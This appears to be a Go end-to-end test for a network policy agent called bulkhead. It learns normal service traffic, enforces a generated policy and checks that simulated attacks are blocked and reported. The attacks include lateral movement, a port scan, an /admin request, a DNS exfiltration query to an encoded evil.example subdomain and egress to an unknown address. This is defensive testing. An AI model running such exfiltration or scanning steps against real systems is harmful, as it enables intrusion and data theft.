package e2e_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"bulkhead.dev/bulkhead/agent/events"
	"bulkhead.dev/bulkhead/policy/learn"
)

// normalTraffic is what the shop does: the frontend calls the api's paths,
// the api reads and writes redis, resolves an allowed name and calls it.
func (b *bed) normalTraffic() error {
	var errs []error
	api := "http://" + hostPort(apiIP, 8080)
	for _, p := range []string{"/users/1", "/users/2", "/health"} {
		if _, err := curl(b.fe, api+p); err != nil {
			errs = append(errs, err)
		}
	}
	if _, err := curl(b.fe, api+"/orders", "-X", "POST", "-d", "{}"); err != nil {
		errs = append(errs, err)
	}
	if out, err := redisCLI(b.api, "SET", "k", "v"); err != nil || out != "OK" {
		errs = append(errs, fmt.Errorf("redis SET: %q %v", out, err))
	}
	if out, err := redisCLI(b.api, "GET", "k"); err != nil || out != "v" {
		errs = append(errs, fmt.Errorf("redis GET: %q %v", out, err))
	}
	ips, err := dig(b.api, "www.allowed.example")
	if err != nil || !slices.Equal(ips, []string{allowedIP.String()}) {
		errs = append(errs, fmt.Errorf("dig www.allowed.example: %q %v", ips, err))
	} else if _, err := curl(b.api, "http://"+ips[0]+"/"); err != nil {
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

// wantEvent checks an event field by field.
type wantEvent struct {
	typ                  events.Type
	src, srcKind         string
	dst, dstKind         string
	dport                uint16
	proto, app           string
	l7                   events.L7
	mode, verdict        string
	rule, reasonContains string
	evidence             bool
}

func checkEvent(t *testing.T, a *agentProc, e events.Event, w wantEvent) {
	t.Helper()
	got := wantEvent{typ: e.Type, src: e.Src.Workload, srcKind: e.Src.Kind, dst: e.Dst.Workload, dstKind: e.Dst.Kind,
		dport: e.Dst.Port, proto: e.Proto, app: e.App, l7: e.L7, mode: e.Mode, verdict: e.Verdict, rule: e.Rule,
		reasonContains: w.reasonContains, evidence: e.Evidence != ""}
	if !strings.Contains(e.Reason, w.reasonContains) {
		t.Errorf("event reason %q does not contain %q", e.Reason, w.reasonContains)
	}
	if diff := cmp.Diff(w, got, cmp.AllowUnexported(wantEvent{})); diff != "" {
		t.Errorf("event (-want +got):\n%s", diff)
	}
	if e.Node != "e2e" || e.FlowID == "" || e.Time.IsZero() || !e.Src.IP.IsValid() || !e.Dst.IP.IsValid() {
		t.Errorf("event lacks node, flow id, time or addresses: %+v", e)
	}
	if e.Evidence != "" {
		st, err := os.Stat(filepath.Join(a.state, "evidence", e.Evidence))
		if err != nil || st.Size() == 0 {
			t.Errorf("evidence %s: %v", e.Evidence, err)
		}
	}
}

// TestLearnGenerateProtect: learn the shop's traffic, generate a policy
// from the agent's learned graph, load it, switch every group to protect;
// normal traffic keeps working and each attack is blocked and reported.
func TestLearnGenerateProtect(t *testing.T) {
	b := newBed(t)
	a := b.startAgent()
	ctx := context.Background()

	// Learn.
	if err := b.normalTraffic(); err != nil {
		t.Fatalf("normal traffic in learn mode: %v", err)
	}
	wantEdges := []string{
		"api → db tcp/6379 redis",
		"api → dns udp/53 dns",
		"api → fqdn:www.allowed.example tcp/80 http",
		"frontend → api tcp/8080 http",
	}
	var snap learn.Snapshot
	deadline := time.Now().Add(10 * time.Second)
	for {
		g, err := a.client.Graph(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if snap, err = learn.ReadJSON(strings.NewReader(string(g))); err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, e := range snap.Edges {
			got = append(got, fmt.Sprintf("%s → %s %s/%d %s", e.Src, e.Dst, e.Proto, e.Port, e.App))
		}
		if slices.Equal(got, wantEdges) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("learned edges (-want +got):\n%s", cmp.Diff(wantEdges, got))
		}
		time.Sleep(100 * time.Millisecond)
	}
	learned := 0
	for _, e := range a.events() {
		if e.Type == events.Learned {
			learned++
		}
	}
	if learned != len(wantEdges) {
		t.Errorf("%d learned events, want %d", learned, len(wantEdges))
	}

	// Generate a policy from the agent's graph and load it.
	graphFile := filepath.Join(b.dir, "graph.json")
	g, _ := a.client.Graph(ctx)
	if err := os.WriteFile(graphFile, g, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(a.policy, 0o755); err != nil {
		t.Fatal(err)
	}
	if code, out, errOut := run(t, "policy", "generate", "--name", "shop", "-o", filepath.Join(a.policy, "shop.yaml"), graphFile); code != 0 {
		t.Fatalf("policy generate: %d\n%s%s", code, out, errOut)
	}
	t.Logf("generated policy:\n%s", readFile(t, filepath.Join(a.policy, "shop.yaml")))
	if code, out, errOut := a.cli("policy", "reload"); code != 0 || !strings.Contains(out, "policy reloaded") {
		t.Fatalf("policy reload: %d\n%s%s", code, out, errOut)
	}
	for _, g := range []string{"frontend", "api", "db", "dns"} {
		if code, out, errOut := a.cli("mode", g, "protect"); code != 0 || !strings.Contains(out, "→ protect") {
			t.Fatalf("mode %s protect: %d %s%s", g, code, out, errOut)
		}
	}
	if err := b.normalTraffic(); err != nil {
		t.Fatalf("normal traffic in protect mode: %v\npolicy:\n%s", err, readFile(t, filepath.Join(a.policy, "shop.yaml")))
	}

	// Attacks.
	from := len(a.events())
	if out, err := redisCLI(b.fe, "PING"); err == nil {
		t.Errorf("frontend → db (lateral movement) answered %q", out)
	}
	checkEvent(t, a, a.waitEvent("lateral movement", from, func(e events.Event) bool { return e.Dst.Workload == "db" && e.Src.Workload == "frontend" }), wantEvent{
		typ: events.Drop, src: "frontend", srcKind: "local", dst: "db", dstKind: "local", dport: 6379, proto: "tcp",
		mode: "protect", verdict: "deny", reasonContains: "no rule from frontend to db", evidence: true})

	from = len(a.events())
	for port := uint16(20); port < 40; port++ {
		if err := dialBlocked(b.fe, hostPort(apiIP, port)); err != nil {
			t.Error(err)
		}
	}
	scan := a.waitEvent("the port scan", from, func(e events.Event) bool { return e.Dst.Port == 39 })
	checkEvent(t, a, scan, wantEvent{typ: events.Drop, src: "frontend", srcKind: "local", dst: "api", dstKind: "local", dport: 39, proto: "tcp",
		mode: "protect", verdict: "deny", reasonContains: "allows tcp/39", evidence: true})
	n := 0
	for _, e := range a.events()[from:] {
		if e.Type == events.Drop && e.Dst.Workload == "api" && e.Dst.Port >= 20 && e.Dst.Port < 40 {
			n++
		}
	}
	if n != 20 {
		t.Errorf("%d drop events for 20 scanned ports", n)
	}

	from = len(a.events())
	if out, err := curl(b.fe, "http://"+hostPort(apiIP, 8080)+"/admin"); err == nil {
		t.Errorf("GET /admin, never served while learning, answered %q", out)
	}
	checkEvent(t, a, a.waitEvent("GET /admin", from, func(e events.Event) bool { return e.L7.Path == "/admin" }), wantEvent{
		typ: events.Drop, src: "frontend", srcKind: "local", dst: "api", dstKind: "local", dport: 8080, proto: "tcp", app: "http",
		l7: events.L7{Method: "GET", Host: apiIP.String(), Path: "/admin"}, mode: "protect", verdict: "deny",
		rule: "frontend-to-api-http", reasonContains: `http path "/admin" not allowed`, evidence: true})

	from = len(a.events())
	exfil := "mzxw6ytboi4dqojrgeztgnbvgy3tqojqgeztgnbvgy3tqojq.x1.evil.example"
	if ips, err := dig(b.api, exfil); err == nil {
		t.Errorf("DNS query for %s answered %q", exfil, ips)
	}
	checkEvent(t, a, a.waitEvent("the DNS exfiltration", from, func(e events.Event) bool { return e.L7.Query == exfil }), wantEvent{
		typ: events.Drop, src: "api", srcKind: "local", dst: "dns", dstKind: "local", dport: 53, proto: "udp", app: "dns",
		l7: events.L7{Query: exfil, QType: "A"}, mode: "protect", verdict: "deny", rule: "api-to-dns-dns",
		reasonContains: `dns name "` + exfil + `" not allowed`, evidence: true})

	from = len(a.events())
	if out, err := curl(b.api, "http://"+unknownIP.String()+"/"); err == nil {
		t.Errorf("api → %v (never resolved) answered %q", unknownIP, out)
	}
	checkEvent(t, a, a.waitEvent("egress to an unknown address", from, func(e events.Event) bool { return e.Dst.IP == unknownIP }), wantEvent{
		typ: events.Drop, src: "api", srcKind: "local", dst: "world", dstKind: "world", dport: 80, proto: "tcp",
		mode: "protect", verdict: "deny", reasonContains: "no rule from api to " + unknownIP.String(), evidence: true})

	// Normal traffic still works after the attacks.
	if err := b.normalTraffic(); err != nil {
		t.Errorf("normal traffic after the attacks: %v", err)
	}
	if code, out, _ := a.cli("events", "--limit", "12"); code == 0 {
		t.Logf("bulkhead events:\n%s", out)
	}
}

func readFile(t *testing.T, p string) string {
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
